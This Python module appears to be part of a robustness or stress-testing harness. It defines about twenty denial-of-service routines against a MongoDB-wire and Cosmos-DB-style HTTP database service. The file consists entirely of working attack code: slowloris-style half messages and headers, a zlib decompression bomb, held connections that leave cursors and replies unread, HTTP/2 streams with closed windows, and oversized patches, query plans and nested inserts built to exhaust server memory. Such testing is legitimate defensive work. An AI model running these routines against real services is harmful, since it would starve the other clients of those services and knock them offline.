"""The bombs that are connections: incomplete messages, unread replies, abandoned cursors. Each is
held for a while, during which all other clients have to be served."""

import contextlib
import socket
import struct
import zlib

import bson
from badinput.wire import OP_MSG, compressed, frame
from badinput_nosql.wire import authorization, http_date, request

from bombs import http2
from bombs.data import DATABASE
from bombs.grammar import HELD, MANY

DOCS = f"/dbs/{DATABASE}/colls/c/docs"
#: Announced length of a message, and the length that is sent.
ANNOUNCED, SENT = 47_900_000, 47_000_000


def op_msg(body):
    return frame(OP_MSG, b"\0\0\0\0\0" + bson.encode({**body, "$db": DATABASE}))


class Held:
    """Connections that stay open until the end of the block; the server may close them."""

    def __init__(self, address, count):
        self.sockets = [socket.create_connection(address, 10) for _ in range(count)]

    def __enter__(self):
        return self

    def __exit__(self, *_):
        for one in self.sockets:
            one.close()

    def send(self, data, within=5.0):
        """Sends to all; data that the server does not accept is discarded."""
        for one in self.sockets:
            one.settimeout(within)
            with contextlib.suppress(OSError):
                one.sendall(data)


def half_messages(attack):
    """A header that announces a large message, and nearly all of it."""
    head = struct.pack("<iiii", ANNOUNCED, 1, 0, OP_MSG)
    with Held(attack.mongo_address, 3) as held:
        held.send(head + b"\0\0\0\0\0" + b"\0" * SENT)
        attack.hold()


def half_messages_of_the_known(attack):
    """The same after a complete request."""
    head = struct.pack("<iiii", ANNOUNCED, 1, 0, OP_MSG)
    with Held(attack.mongo_address, 3) as held:
        held.send(op_msg({"ping": 1}))
        for one in held.sockets:
            one.recv(1000)
        held.send(head + b"\0\0\0\0\0" + b"\0" * SENT)
        attack.hold()


def half_compressed(attack):
    """A megabyte that decompresses to 48, as announced."""
    inner = op_msg({"ping": 1, "x": b"\0" * (15 << 20)})
    message = compressed(inner, 2, zlib.compress(inner[16:], 9))
    with Held(attack.mongo_address, 20) as held:
        for _ in range(5):
            held.send(message, 1.0)
        attack.hold()


def unread_batches(attack):
    """Unread batches of 16 MB, as many as a connection accepts."""
    with Held(attack.mongo_address, 6) as held:
        held.send(
            op_msg({"find": "rows", "batchSize": 1_000_000, "noCursorTimeout": True}) * 20, 1.0
        )
        attack.hold()


def unread_writes(attack):
    """Unread refusals that quote the request."""
    statement = {"q": {"_id": 1}, "u": {"$bad" + "x" * 5_000: 1}}
    body = op_msg({"update": "none", "ordered": False, "updates": [statement] * 1_000})
    with Held(attack.mongo_address, 4) as held:
        held.send(body * 4, 1.0)
        attack.hold()


def forgotten_cursors(attack):
    """Cursors that each hold a sort, on one connection."""
    for _ in range(8):
        attack.mongo({"aggregate": "wide", "pipeline": HELD, "cursor": {"batchSize": 1}}, 60)
    attack.hold()


def forgotten_connections(attack):
    """The same with a connection each, which is closed; that or memory pressure ends them."""
    for _ in range(8):
        attack.mongo(
            {"aggregate": "wide", "pipeline": HELD, "cursor": {"batchSize": 1}}, 60, new=True
        )
    attack.hold()


def cursors_of_programs(attack):
    """Cursors that hold large filters."""
    body = {"find": "rows", "filter": {"n": {"$nin": list(range(-300_000, 0))}}, "batchSize": 1}
    for _ in range(10):
        attack.mongo(body, 60)
    attack.hold()


def unread_pages(attack):
    """Unread pages of 4 MB over HTTP/1."""
    data = request("GET", DOCS, None, {"x-ms-max-item-count": "1000"})
    with Held(attack.items_address, 12) as held:
        held.send(data * 20, 1.0)
        attack.hold()


def unread_streams(attack):
    """The same on a hundred streams of HTTP/2 with closed windows."""

    def ask(stream):
        date = http_date()
        return http2.request(
            stream,
            "GET",
            DOCS,
            {
                "x-ms-date": date,
                "x-ms-version": "2020-07-15",
                "accept": "application/json",
                "authorization": authorization("GET", DOCS, date),
                "x-ms-max-item-count": "1000",
            },
        )

    with Held(attack.items_address, 1) as held:
        held.send(http2.settings(window=0) + b"".join(ask(2 * i + 1) for i in range(100)), 2.0)
        attack.hold()


def half_bodies(attack):
    """Bodies of 2 MB that lack their last bytes."""
    body = b'{"id":"h","pk":"a","x":"' + b"x" * (2_000_000 - 100)
    head = request(
        "POST", DOCS, None, {"content-length": "2000000", "x-ms-documentdb-partitionkey": '["a"]'}
    )
    with Held(attack.items_address, 30) as held:
        held.send(head + body)
        attack.hold()


def half_queries(attack):
    """Bodies of queries that lack their last bytes."""
    head = request(
        "POST",
        DOCS,
        None,
        {
            "content-length": "500000",
            "content-type": "application/query+json",
            "x-ms-documentdb-isquery": "True",
        },
    )
    with Held(attack.items_address, 60) as held:
        held.send(head + b'{"query":"SELECT ' + b"c.n," * 120_000)
        attack.hold()


def half_heads(attack):
    """Heads of 60 KB that do not end."""
    with Held(attack.items_address, 100) as held:
        held.send(b"GET /dbs HTTP/1.1\r\nhost: localhost\r\n" + b"x-y: " + b"z" * 60_000)
        attack.hold()


def half_streams(attack):
    """Incomplete bodies on a hundred streams of HTTP/2."""

    def ask(stream):
        date = http_date()
        whole = http2.request(
            stream,
            "POST",
            DOCS,
            {
                "x-ms-date": date,
                "x-ms-version": "2020-07-15",
                "content-type": "application/json",
                "authorization": authorization("POST", DOCS, date),
                "x-ms-documentdb-partitionkey": '["a"]',
            },
            b"x",
        )
        head = whole[:-10]
        return head + http2.frame(http2.DATA, 0, stream, b'{"id":"' + b"x" * 16_000)

    with Held(attack.items_address, 2) as held:
        held.send(http2.settings(window=65_535) + b"".join(ask(2 * i + 1) for i in range(100)), 2.0)
        attack.hold()


def batches(attack):
    """Transactional batches with large replies: each reads the wide item a hundred times."""
    headers = {
        "x-ms-cosmos-is-batch-request": "True",
        "x-ms-cosmos-batch-atomic": "True",
        "x-ms-documentdb-partitionkey": '["a"]',
    }
    attack.post(DOCS, [{"operationType": "Read", "id": "wide"}] * 100, headers)


def bulks(attack):
    headers = {
        "x-ms-cosmos-is-batch-request": "True",
        "x-ms-cosmos-batch-atomic": "False",
        "x-ms-cosmos-batch-continue-on-error": "True",
        "x-ms-documentdb-partitionkeyrangeid": "0",
    }
    attack.post(
        DOCS, [{"operationType": "Read", "id": "wide", "partitionKey": '["a"]'}] * 100, headers
    )


def patches(attack):
    """A patch that grows an item with many values."""
    operations = [{"op": "add", "path": f"/p{i}", "value": "x" * 30_000} for i in range(60)]
    attack.ask(
        "PATCH",
        f"{DOCS}/wide",
        {"operations": operations},
        {"x-ms-documentdb-partitionkey": '["a"]', "content-type": "application/json-patch+json"},
    )


def plans(attack):
    """Plans of large queries."""
    text = "SELECT VALUE 1 FROM c WHERE " + " OR ".join(f"c.n = {i}" for i in range(20_000))
    attack.sql(
        text,
        {
            "x-ms-cosmos-is-query-plan-request": "True",
            "x-ms-cosmos-query-version": "1.4",
            "x-ms-cosmos-supported-query-features": "Aggregate",
        },
    )


def many_sections(attack):
    """Inserts of deeply nested arrays, one after the other."""
    deep = {"a": [[[]] * 1_000] * 1_000}
    for _ in range(3):
        attack.mongo(
            {
                "insert": "none",
                "ordered": False,
                "documents": [{**deep, "_id": "honest"} for _ in range(2)],
            },
            60,
            new=True,
        )


def waiting_cursors(attack):
    """A cursor whose batches each expand little data to much."""
    reply = attack.mongo(
        {
            "aggregate": "wide",
            "cursor": {"batchSize": 1},
            "pipeline": [{"$unwind": "$a"}, {"$project": {"p": ["$s"] * 8}}],
        },
        60,
    )
    cursor = reply.get("cursor", {}).get("id", 0)
    for _ in range(5 if cursor else 0):
        attack.mongo({"getMore": bson.Int64(cursor), "collection": "wide", "batchSize": MANY}, 60)


WIRES = {
    work.__name__.replace("_", " "): work
    for work in (
        half_messages,
        half_messages_of_the_known,
        half_compressed,
        unread_batches,
        unread_writes,
        forgotten_cursors,
        forgotten_connections,
        cursors_of_programs,
        unread_pages,
        unread_streams,
        half_bodies,
        half_queries,
        half_heads,
        half_streams,
        batches,
        bulks,
        patches,
        plans,
        many_sections,
        waiting_cursors,
    )
}
